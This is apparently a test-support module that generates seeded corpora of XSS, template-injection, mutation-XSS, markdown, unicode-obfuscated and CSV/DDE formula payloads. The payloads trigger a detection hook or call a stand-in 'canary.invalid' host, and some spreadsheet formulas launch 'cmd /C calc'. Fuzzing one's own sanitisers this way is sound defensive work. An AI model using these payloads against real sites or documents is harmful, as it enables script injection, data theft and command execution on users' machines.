import { Random } from '../support/random';

/** What hostile text calls when it runs; pages are given a function of this name that tells (stage.ts). */
export const HOOK = '__hit';
/** Where hostile text would send what it steals; nobody is there, and whoever asks for it is seen. */
export const CANARY = 'canary.invalid';

/** What runs: with and without brackets and quotes, and as characters that only a parser reads. */
const CALLS = [
  `${HOOK}(1)`,
  `${HOOK}\`1\``,
  `window['${HOOK}'](1)`,
  `top.${HOOK}(1)`,
  `setTimeout('${HOOK}(1)')`,
  `\\u005f_hit(1)`,
  `fetch('//${CANARY}')`,
  `location='//${CANARY}'`,
];
const EVENTS = ['onerror', 'onload', 'onfocus autofocus', 'ontoggle', 'onpointerenter', 'onanimationstart', 'onbegin'];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript&#58;',
  'javascript://%0a',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'data:image/svg+xml,',
  'blob:',
  'feed:javascript:',
  'view-source:javascript:',
];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'video src=x',
  'details open',
  'input',
  'math',
  'object data=x',
  'x',
];

type Family = (call: string, random: Random) => string;

/** Each makes many texts: of another call, event, scheme or tag each time. */
const FAMILIES: Readonly<Record<string, readonly Family[]>> = {
  html: [
    (call) => `<script>${call}</script>`,
    (call) => `<ScRiPt >${call}</sCrIpT >`,
    (_, random) => `<script src=//${CANARY}/${random.below(1e6)}></script>`,
    (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
    (_, random) => `<base href=//${CANARY}/${random.below(1e6)}/><link rel=stylesheet href=//${CANARY}/s>`,
    (_, random) => `<meta http-equiv=refresh content="0;url=//${CANARY}/${random.below(1e6)}">`,
    (call) => `<form><button formaction="javascript:${call}">x</button></form>`,
    (_, random) => `<img src=//${CANARY}/${random.below(1e6)}.png>`,
  ],
  events: [
    (call, random) => `<${random.pick(TAGS)} ${random.pick(EVENTS)}="${call}">`,
    (call, random) => `<${random.pick(TAGS)}/${random.pick(EVENTS)}=${call}>`,
    (call, random) => `" ${random.pick(EVENTS)}="${call}" x="`,
    (call, random) => `' ${random.pick(EVENTS)}='${call}' x='`,
    (call, random) => `x ${random.pick(EVENTS)}=${call} `,
  ],
  svg: [
    (call) => `<svg><script>${call}</script></svg>`,
    (call) => `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
    (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
    (call) => `<svg><set attributeName=href to="javascript:${call}"/></svg>`,
    (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload='${call}'/>#x"/></svg>`,
    (call) => `<svg><foreignObject><img src=x onerror="${call}"></foreignObject></svg>`,
  ],
  mutation: [
    (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
    (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
    (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
    (call) => `<textarea></textarea><title></title><img src=x onerror=${call}>`,
    (call) => `<template><s><template><s><img src=x onerror=${call}>@shadow</s>`,
    (call) => `<!--><img src=x onerror=${call}>-->`,
    (call) => `<![CDATA[><img src=x onerror=${call}>]]>`,
    (call) => `<a title="--!><img src=x onerror=${call}>">`,
  ],
  markdown: [
    (call, random) => `[x](${random.pick(SCHEMES)}${call})`,
    (call, random) => `![x](${random.pick(SCHEMES)}${call})`,
    (call, random) => `<${random.pick(SCHEMES)}${call}>`,
    (call, random) => `[x][1]\n\n[1]: ${random.pick(SCHEMES)}${call}`,
    (call, random) => `![x](x "${random.pick(['" ', "' "])}onerror=${call} x=")`,
    (call) => `[x](http://a"onmouseover="${call})`,
    (call) => `[<img src=x onerror=${call}>](x)`,
    (call) => `\`\`\`"><script>${call}</script>\nx\n\`\`\``,
    (call) => `| <script>${call}</script> |\n|---|\n| x |`,
  ],
  schemes: [
    (call, random) => `<a href="${random.pick(SCHEMES)}${call}">x</a>`,
    (call, random) => `${random.pick(SCHEMES)}${call}`,
    (call, random) => `<iframe src="${random.pick(SCHEMES)}<script>${call}</script>"></iframe>`,
  ],
  breakouts: [
    (call) => `</script><script>${call}</script>`,
    (call) => `"}</script><script>${call}</script>`,
    (call) => `<!--<script>${call}</script>`,
    (call) => `\\u003c/script\\u003e\\u003cscript\\u003e${call}`,
    (call) => `"};${call};//`,
    (call) => `';${call};//`,
    (call) => `\u2028${call}\u2029`,
    (call) => `</title><script>${call}</script>`,
    (call) => `</style><script>${call}</script>`,
    (call) => `]]><script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
    (call) => `"><script>${call}</script>`,
    (call) => `{"@type":"x","__proto__":{"x":"${call.replaceAll('"', '')}"}}`,
  ],
  templates: [
    (call) => `\${${call}}`,
    (call) => `{{constructor.constructor('${call.replaceAll("'", '"')}')()}}`,
    (call) => `<%= ${call} %>`,
    (call) => `#{${call}}`,
    (call) => `{% ${call} %}`,
    (call) => `\`\${${call}}\``,
  ],
  unicode: [
    (call) => `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
    (call) => `<\u200bscript>${call}</\u200bscript>`,
    (call) => `\u202e<script>${call}</script>`,
    (call) => `<img src=x on\u017ferror=${call}>`,
    (call) => `<\u017fcript>${call}</\u017fcript>`,
    (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
    (call) => `\u00bcscript\u00be${call}\u00bc/script\u00be`,
    (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
    (call) => `%3Cscript%3E${call}%3C/script%3E`,
    (call) => `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
  ],
  formulas: [
    (_, random) => `=HYPERLINK("http://${CANARY}/${random.below(1e6)}?"&A2,"open")`,
    (_, random) =>
      `${random.pick(['=', '+', '-', '@', '\u202f=', '\uff1d', ' =', '\u200b+'])}cmd|'/C calc'!A${random.below(99)}`,
    (_, random) => `@SUM(1+${random.below(1e6)})*cmd|' /C calc'!A0`,
    (_, random) => `=IMPORTXML("http://${CANARY}/${random.below(1e6)}","//a")`,
  ],
};

/** @returns so many different texts, of all families in turn */
export function scriptCorpus(count: number, seed: number): string[] {
  const random = new Random(seed);
  const makers = Object.values(FAMILIES);
  const texts = new Set<string>();
  for (let made = 0; texts.size < count; made += 1) {
    const family = makers[made % makers.length]!;
    const turn = Math.floor(made / makers.length);
    texts.add(family[turn % family.length]!(CALLS[Math.floor(turn / family.length) % CALLS.length]!, random));
  }
  return [...texts];
}

/** Only the beginning of a cell is one. */
const FORMULA = /^[\s\p{C}\p{Z}]*[=+\-@\uff1d]/u;

/**
 * All texts in as few values of a field as its bound allows; one that is longer by itself is cut.
 * @param joint between two texts of one value: a field of several lines keeps them apart as blocks
 */
export function packed(texts: readonly string[], bound: number, joint: string): string[] {
  const values: string[] = [];
  for (const text of texts) {
    const last = values.at(-1);
    if (last !== undefined && !FORMULA.test(text) && last.length + joint.length + text.length <= bound) {
      values[values.length - 1] = last + joint + text;
    } else values.push(text.slice(0, bound));
  }
  return values;
}
